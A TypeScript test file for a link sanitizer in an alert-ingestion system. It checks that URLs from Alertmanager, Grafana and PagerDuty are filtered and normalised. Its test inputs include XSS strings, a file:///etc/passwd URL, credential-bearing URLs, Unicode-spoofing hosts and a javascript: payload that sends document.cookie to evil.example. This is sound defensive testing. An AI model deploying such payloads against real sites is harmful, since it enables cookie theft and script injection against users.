import { describe, expect, it } from 'vitest';
import { alertmanagerLinks } from '../../../../shared/ingest/links/alertmanager-links';
import { grafanaLinks } from '../../../../shared/ingest/links/grafana-links';
import { pagerdutyLinks } from '../../../../shared/ingest/links/pagerduty-links';
import { MAX_LINKS_PER_ALERT, safeLinks } from '../../../../shared/ingest/links/safe-links';
import { revealHidden } from '../../../../shared/text/hidden-characters';

const annotations = (entries: Record<string, string>) => Object.assign(Object.create(null), entries);

describe('safeLinks', () => {
  it.each([
    'javascript:alert(1)',
    ' JAVASCRIPT:alert(document.cookie)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://grafana.example/1',
    '//evil.example/',
    '/d/checkout',
    'https://grafana.noc.example@evil.example/d/checkout',
    'https://admin:hunter2@grafana.noc.example/',
    'https://exa\u202Emple.com/',
    '',
  ])('drops %j', (href) => {
    expect(safeLinks([{ href, text: 'Dashboard' }])).toEqual([]);
  });

  it('normalises what it keeps: hidden characters in a path are percent-encoded, look-alike hosts become punycode', () => {
    expect(
      safeLinks([
        { href: 'https://grafana.noc.example/d/a\u202Eb', text: 'x' },
        { href: 'https://\u0430pple.example/', text: 'y' },
      ]).map((link) => link.href),
    ).toEqual(['https://grafana.noc.example/d/a%E2%80%AEb', 'https://xn--pple-43d.example/']);
  });

  it('shows hidden characters in labels, keeps them on one line, and names the host when there is no label', () => {
    expect(
      safeLinks([
        { href: 'https://a.example/1', text: 'Runbook \u202Egnp.exe' },
        { href: 'https://a.example/2', text: 'line one\r\nBcc: victim@example.org' },
        { href: 'https://b.example:8443/3', text: '   ' },
        { href: 'https://b.example/4', text: undefined },
      ]).map((link) => link.text),
    ).toEqual(['Runbook <U+202E>gnp.exe', 'line one Bcc: victim@example.org', 'b.example:8443', 'b.example']);
  });

  it('keeps each URL once, the first label winning, and at most MAX_LINKS_PER_ALERT', () => {
    expect(
      safeLinks([
        { href: 'https://a.example/x', text: 'First' },
        { href: 'HTTPS://A.EXAMPLE/x', text: 'Second' },
      ]),
    ).toEqual([{ href: 'https://a.example/x', text: 'First' }]);
    const many = Array.from({ length: 500 }, (_, n) => ({ href: `https://a.example/${n}`, text: `${n}` }));
    expect(safeLinks(many)).toHaveLength(MAX_LINKS_PER_ALERT);
  });

  it('answers a URL seen before as it did the first time, across more URLs than it remembers', () => {
    const urls = Array.from({ length: 600 }, (_, i) =>
      i % 3 === 0 ? `javascript:alert(${i})` : `https://grafana.noc.example/d/${i}?x=\u202e${i}`,
    );
    const first = urls.map((href) => safeLinks([{ href, text: 'Link' }]));
    for (let round = 0; round < 3; round++)
      for (const [i, href] of urls.entries()) expect(safeLinks([{ href, text: 'Link' }])).toEqual(first[i]);
    expect(first[0]).toEqual([]);
    expect(first[1]).toEqual([{ href: 'https://grafana.noc.example/d/1?x=%E2%80%AE1', text: 'Link' }]);
  });

  it('cuts an endless label short', () => {
    const [link] = safeLinks([{ href: 'https://a.example/', text: 'A'.repeat(5000) }]);
    expect(link?.text.length).toBe(200);
  });
});

describe('alertmanagerLinks', () => {
  it('offers the source, the runbook, other *_url annotations and the Alertmanager', () => {
    const links = alertmanagerLinks(
      {
        generatorURL: 'http://prometheus.noc.example:9090/graph?g0.expr=up',
        annotations: annotations({
          summary: 'https://not-a-link-annotation.example/',
          runbook_url: 'https://runbooks.noc.example/payments-db',
          dashboard_url: 'https://grafana.noc.example/d/db',
          logs_url: 'javascript:alert(1)',
          __proto__url: 'https://odd.example/',
        }),
      },
      'http://alertmanager.noc.example:9093',
    );
    expect(links).toEqual([
      { href: 'http://prometheus.noc.example:9090/graph?g0.expr=up', text: 'Source' },
      { href: 'https://runbooks.noc.example/payments-db', text: 'Runbook' },
      { href: 'https://grafana.noc.example/d/db', text: 'Dashboard' },
      { href: 'http://alertmanager.noc.example:9093/', text: 'Alertmanager' },
    ]);
  });

  it('has no links when nothing is a safe URL', () => {
    expect(
      alertmanagerLinks({ generatorURL: 'javascript:void 0', annotations: annotations({}) }, ''),
    ).toEqual([]);
  });
});

describe('grafanaLinks', () => {
  it('offers panel, dashboard, silence and the image as a link, then the Alertmanager-shaped ones', () => {
    const links = grafanaLinks(
      {
        panelURL: 'https://grafana.noc.example/d/checkout?viewPanel=4',
        dashboardURL: 'https://grafana.noc.example/d/checkout',
        silenceURL: 'https://grafana.noc.example/alerting/silence/new?matcher=alertname%3DX',
        imageURL: 'https://grafana.noc.example/public/img/attachments/abc.png',
        generatorURL: 'https://grafana.noc.example/alerting/grafana/cdk7a2x/view',
        annotations: annotations({ runbook_url: 'https://runbooks.noc.example/checkout' }),
      },
      'https://grafana.noc.example/',
    );
    expect(links.map((link) => link.text)).toEqual([
      'Panel',
      'Dashboard',
      'Silence in Grafana',
      'Image (not loaded)',
      'Source',
      'Runbook',
      'Grafana',
    ]);
  });

  it('drops a hostile dashboard URL and an image with credentials, keeping the rest', () => {
    const links = grafanaLinks(
      {
        dashboardURL: 'javascript:fetch("https://evil.example/?"+document.cookie)',
        imageURL: 'https://user:pass@grafana.noc.example/x.png',
        panelURL: 'https://grafana.noc.example/d/x?viewPanel=1',
        annotations: annotations({}),
      },
      '',
    );
    expect(links).toEqual([{ href: 'https://grafana.noc.example/d/x?viewPanel=1', text: 'Panel' }]);
  });
});

describe('pagerdutyLinks', () => {
  it('offers links, images (their target and the image itself, never loaded) and the client', () => {
    const links = pagerdutyLinks({
      links: [
        { href: 'https://grafana.noc.example/d/edge', text: 'Edge dashboard' },
        { href: 'data:text/html,<b>x</b>', text: 'Evil' },
      ],
      images: [
        {
          src: 'https://chart.noc.example/loss.png',
          href: 'https://grafana.noc.example/d/edge?viewPanel=2',
          alt: 'Loss',
        },
        { src: 'javascript:alert(1)' },
        { src: 'https://chart.noc.example/other.png' },
      ],
      client: 'Zabbix',
      client_url: 'https://zabbix.noc.example/',
    });
    expect(links).toEqual([
      { href: 'https://grafana.noc.example/d/edge', text: 'Edge dashboard' },
      { href: 'https://grafana.noc.example/d/edge?viewPanel=2', text: 'Loss' },
      { href: 'https://chart.noc.example/loss.png', text: 'Image: Loss (not loaded)' },
      { href: 'https://chart.noc.example/other.png', text: 'Image (not loaded)' },
      { href: 'https://zabbix.noc.example/', text: 'Zabbix' },
    ]);
  });
});

describe('link labels', () => {
  it('are the same whether or not the printable-ASCII shortcut is taken', () => {
    const pieces = ['Runbook', ' ', '\t', '\n', '\u202e', '\u200b', '\u0000', 'é', '~', '\u2028', 'x'];
    for (let i = 0; i < 2000; i++) {
      let text = '';
      for (let j = 0; j < i % 7; j++) text += pieces[(i * 13 + j * 7 + (i >> 4)) % pieces.length];
      const [link] = safeLinks([{ href: 'https://example.com/a', text }]);
      const expected = revealHidden(text.replace(/[\r\n\u2028\u2029\t]+/g, ' ')).trim() || 'example.com';
      expect(link?.text).toBe(expected);
    }
  });
});
